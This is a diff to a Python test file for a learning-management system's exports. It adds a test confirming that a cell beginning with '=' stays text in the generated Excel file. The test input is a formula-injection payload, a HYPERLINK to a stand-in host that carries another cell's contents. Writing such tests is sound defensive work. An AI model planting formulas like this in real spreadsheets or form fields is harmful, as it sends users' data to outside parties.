@@ -48,3 +48,17 @@ def test_file_sizes_are_written_in_the_readers_language(app):
             assert file_size(2_621_440) == "2,5 МБ"
         with force_locale("en"):
             assert file_size(2_621_440) == "2.5 MB" and file_size(10) == "1 KB"
+
+
+def test_a_spreadsheet_cell_typed_as_a_formula_stays_text():
+    """A name or title beginning with "=" (from an import or a form) must not run in the reader's
+    Excel as a formula (a HYPERLINK that sends data away)."""
+    import io
+
+    from openpyxl import load_workbook
+
+    from lms.core.services.exports import xlsx_bytes
+
+    sheet = load_workbook(io.BytesIO(xlsx_bytes(["Name"], [['=HYPERLINK("http://x.example/?"&A1)'], ["Әсем"]]))).active
+    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("=HYPERLINK")
+    assert sheet["A3"].value == "Әсем"
